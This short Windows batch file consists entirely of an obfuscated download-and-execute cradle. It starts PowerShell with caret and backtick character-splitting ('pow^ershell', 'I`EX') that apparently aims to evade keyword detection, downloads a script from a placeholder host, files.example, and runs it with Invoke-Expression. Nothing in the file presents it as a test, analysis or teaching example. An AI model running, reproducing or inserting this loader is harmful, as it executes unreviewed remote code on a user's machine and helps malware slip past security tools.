@echo off
pow^ershell -Command "I`EX (New-Object Net.WebClient).DownloadString('https://files.example/d.ps1')"
